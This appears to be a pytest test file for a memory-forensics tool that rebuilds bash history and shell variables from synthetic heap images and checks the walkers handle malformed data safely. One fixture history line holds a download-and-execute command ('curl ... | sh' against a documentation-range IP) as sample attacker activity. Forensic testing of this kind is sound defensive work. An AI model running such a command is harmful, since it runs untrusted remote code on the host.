"""history's walkers on heaps made here, read through the same memory view the model builds:
a well-formed list is found in order; lists that are cyclic, point anywhere, claim absurd sizes
or never end are walked with bounds (no hang, no exception), and random heaps too."""

from __future__ import annotations

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from checkforensics.analysis.history import readline
from checkforensics.analysis.history.heap import Heap, request_size
from checkforensics.analysis.history.readline import TIMESTAMP, entries_pointing_at, history_lists
from checkforensics.analysis.history.variables import shell_variables
from checkforensics.images.flags import PAGE_SIZE, PagemapFlags
from checkforensics.model.architecture import X86_64
from checkforensics.model.memory import AddressSpace, PageRun, Vma
from checkforensics.model.regions import Mapping
from checkforensics.model.view import ProcessMemory

BASE = 0x5555_0000_0000
PAGES = 8
HEAP_STATUS = 0x201 | 0x80  # VMA_AREA_REGULAR | VMA_AREA_HEAP


def view(data: bytes) -> ProcessMemory:
    """One [heap] mapping of PAGES pages holding ``data``, all dumped."""
    data = data.ljust(PAGES * PAGE_SIZE, b"\x00")[: PAGES * PAGE_SIZE]
    vma = Vma(BASE, BASE + PAGES * PAGE_SIZE, 3, 0x22, HEAP_STATUS, 0, 0)
    runs = [PageRun(BASE, PAGES, PagemapFlags.PE_PRESENT, 0)]
    space = AddressSpace([vma], runs, lambda offset, size: data[offset : offset + size], len(data), X86_64)
    return ProcessMemory(7, "bash", space, [Mapping(vma, "heap", None)], "pages-1.img", len(data), architecture=X86_64)


def stamps(memory: ProcessMemory) -> dict[int, tuple[bytes, int]]:
    """What readline.timestamps finds, without a pages image to scan: the same pattern and checks."""
    data = memory.read(BASE, PAGES * PAGE_SIZE)
    found = {}
    for match in TIMESTAMP.regex.finditer(data):
        start = BASE + match.start() - 1
        if match.start() and data[match.start() - 1 : match.start()] in (b"#", b"\x00") and start % 16 == 0:
            found[start] = (data[match.start() - 1 : match.start()], int(match.group()[:-1]))
    return found


class HeapImage:
    """A glibc-like heap laid out chunk by chunk from BASE."""

    def __init__(self) -> None:
        self.data = bytearray(PAGES * PAGE_SIZE)
        self.top = 0

    def malloc(self, payload: bytes, request: int | None = None) -> int:
        size = request_size(request if request is not None else len(payload))
        self.data[self.top + 8 : self.top + 16] = (size | 1).to_bytes(8, "little")
        user = self.top + 16
        self.data[user : user + len(payload)] = payload
        self.top += size
        return BASE + user

    def put(self, address: int, payload: bytes) -> None:
        self.data[address - BASE : address - BASE + len(payload)] = payload

    def bytes(self) -> bytes:
        return bytes(self.data)


def word(value: int) -> bytes:
    return value.to_bytes(8, "little")


def well_formed(lines: list[bytes], first_epoch: int = 1796698537) -> tuple[HeapImage, list[int]]:
    heap = HeapImage()
    entries = []
    for index, line in enumerate(lines):
        entry = heap.malloc(bytes(24))
        text = heap.malloc(line + b"\x00")
        stamp = heap.malloc(b"#" + str(first_epoch + index).encode() + b"\x00")
        heap.put(entry, word(text) + word(stamp) + word(0))
        entries.append(entry)
    array = heap.malloc(b"".join(word(e) for e in entries) + word(0), request=8 * 50)
    return heap, [array, *entries]


def test_a_well_formed_list_is_found_in_order() -> None:
    lines = [b"id", b"curl -fsS http://203.0.113.50/x.sh | sh", b"history"]
    heap, _ = well_formed(lines)
    memory = view(heap.bytes())
    lists = history_lists(memory, entries_pointing_at(memory, stamps(memory)))
    assert len(lists) == 1
    assert [e.line for e in lists[0].entries] == lines
    assert [e.epoch for e in lists[0].entries] == [1796698537, 1796698538, 1796698539]


def test_an_array_without_a_malloc_header_or_a_null_is_not_a_list() -> None:
    heap, (array, *_) = well_formed([b"one", b"two"])
    heap.put(array - 8, word(0xDEADBEEFDEADBEEF))  # a freed copy: its header is something else
    memory = view(heap.bytes())
    assert history_lists(memory, entries_pointing_at(memory, stamps(memory))) == []


def test_a_cyclic_array_to_the_end_of_memory_ends(monkeypatch: pytest.MonkeyPatch) -> None:
    heap, (array, first, *_) = well_formed([b"loop"])
    end = BASE + PAGES * PAGE_SIZE
    for slot in range(array, end, 8):  # the same entry in every slot, no NULL before memory ends
        heap.put(slot, word(first))
    memory = view(heap.bytes())
    assert history_lists(memory, entries_pointing_at(memory, stamps(memory))) == []
    monkeypatch.setattr(readline, "MAX_ENTRIES", 16)  # and a bound shorter than the array
    assert history_lists(memory, entries_pointing_at(memory, stamps(memory))) == []


def test_entries_pointing_anywhere_are_refused() -> None:
    heap, (_array, first, second) = well_formed([b"good", b"bad"])
    for line_pointer in (0, 1, BASE - 4096, 2**64 - 8):  # NULL, odd, unmapped, the top of memory
        heap.put(second, word(line_pointer))
        memory = view(heap.bytes())
        # one slot that is not an entry, and the array is not a list
        assert history_lists(memory, entries_pointing_at(memory, stamps(memory))) == []
    heap.put(second, word(second))  # its line is itself: read as bytes, up to their NUL
    memory = view(heap.bytes())
    (found,) = history_lists(memory, entries_pointing_at(memory, stamps(memory)))
    assert [e.address for e in found.entries] == [first, second]
    assert found.entries[1].line == word(second).split(b"\x00")[0]


def test_a_line_without_an_end_is_cut(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(readline, "LINE_LIMIT", 1024)
    heap, (_array, first) = well_formed([b"x"])
    text = heap.malloc(b"A" * 2048)  # no NUL for 2 KiB
    heap.put(first, word(text))
    memory = view(heap.bytes())
    (found,) = history_lists(memory, entries_pointing_at(memory, stamps(memory)))
    assert found.entries[0].cut and found.entries[0].line == b"A" * 1024


def test_absurd_chunk_sizes_end_the_heap_walk() -> None:
    for size in (0, 8, 0x11, 2**63, PAGES * PAGE_SIZE + 16):
        heap = HeapImage()
        heap.malloc(b"first")
        heap.put(BASE + heap.top + 8, word(size))
        walked = list(Heap.read(view(heap.bytes()), view(heap.bytes()).mappings[0]).chunks())
        assert len(walked) == 1


def test_a_shell_var_pointing_anywhere_is_not_a_variable() -> None:
    heap = HeapImage()
    name = heap.malloc(b"CFW_TOKEN\x00")
    value = heap.malloc(b"v\x00")
    good = heap.malloc(word(name) + word(value) + word(0) * 3 + (1).to_bytes(4, "little") + bytes(4), request=48)
    heap.malloc(word(BASE - 4096) + word(value) + word(0) * 3 + bytes(8), request=48)  # name unmapped
    heap.malloc(word(name) + word(value) + word(0) + word(BASE) + word(0) + bytes(8), request=48)  # code in the heap
    heap.malloc(word(good) + word(good) + word(good) * 3 + bytes(8), request=48)  # pointing at itself
    memory = view(heap.bytes())
    found = shell_variables(memory, Heap.read(memory, memory.mappings[0]))
    assert [(v.name, v.value, v.exported) for v in found] == [("CFW_TOKEN", "v", True)]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(st.tuples(st.integers(0, PAGES * PAGE_SIZE // 8 - 1), st.integers(0, 2**64 - 1)), max_size=300),
    st.lists(st.integers(0, PAGES * PAGE_SIZE // 8 - 1), max_size=40),
)
def test_random_heaps_are_walked_with_bounds(words: list[tuple[int, int]], pointers: list[int]) -> None:
    """Random words over a real-looking list, some turned into pointers into the heap, and
    timestamps planted where the pointers lead: whatever the bytes, the walk ends quietly."""
    heap, _ = well_formed([b"ls", b"id", b"whoami"])
    for slot, value in words:
        heap.put(BASE + 8 * slot, word(value))
    for slot in pointers:
        target = BASE + 16 * (slot // 2)
        heap.put(BASE + 8 * slot, word(target))
        heap.put(target, b"\x001796698537\x00")
    memory = view(heap.bytes())
    for found in history_lists(memory, entries_pointing_at(memory, stamps(memory))):
        assert len(found.entries) <= readline.MAX_ENTRIES
    walked = Heap.read(memory, memory.mappings[0])
    list(walked.freed_texts(walked.tcache_key()))
    shell_variables(memory, walked)


def test_the_timestamp_pattern_is_the_one_scanned_for() -> None:
    assert TIMESTAMP.regex.pattern == rb"1[0-9]{9}\x00"
    assert re.fullmatch(TIMESTAMP.regex, b"1796698537\x00")
